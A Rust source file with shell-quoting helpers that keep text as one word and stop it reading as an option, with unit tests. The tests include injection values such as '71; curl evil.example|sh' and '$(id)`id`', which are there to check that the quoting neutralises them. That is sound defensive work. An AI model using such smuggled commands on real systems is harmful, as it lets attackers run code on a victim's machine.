//! Words of a command that a person copies into a shell. A name with a space stays one word, and
//! what a producer wrote is never run.

/// A text as one word: as it is where it means nothing to a shell, in single quotes elsewhere.
#[must_use]
pub fn word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+:,./_-".contains(c);
    match !text.is_empty() && text.chars().all(plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

/// The same in a place of its own, where it must not read as an option.
#[must_use]
pub fn argument(text: &str) -> String {
    match text.starts_with('-') {
        true => format!("-- {}", word(text)),
        false => word(text),
    }
}

/// The same as the value of an option, with what stands between them.
#[must_use]
pub fn value(text: &str) -> String {
    match text.starts_with('-') {
        true => format!("={}", word(text)),
        false => format!(" {}", word(text)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_a_shell_would_read_is_quoted() {
        for plain in ["71", "2.04.01", "ana@exemplo.com.br", "a-b_c", "ML1/R"] {
            assert_eq!(word(plain), plain);
        }
        for (text, quoted) in [
            ("", "''"),
            ("Viagem nacional", "'Viagem nacional'"),
            ("71; curl evil.example|sh", "'71; curl evil.example|sh'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("d'água", r"'d'\''água'"),
        ] {
            assert_eq!(word(text), quoted);
        }
    }

    #[test]
    fn nothing_reads_as_an_option() {
        assert_eq!(argument("-5"), "-- -5");
        assert_eq!(argument("-- x"), "-- '-- x'");
        assert_eq!(argument("5"), "5");
        assert_eq!(value("--all"), "=--all");
        assert_eq!(value("Matriz SP"), " 'Matriz SP'");
    }
}
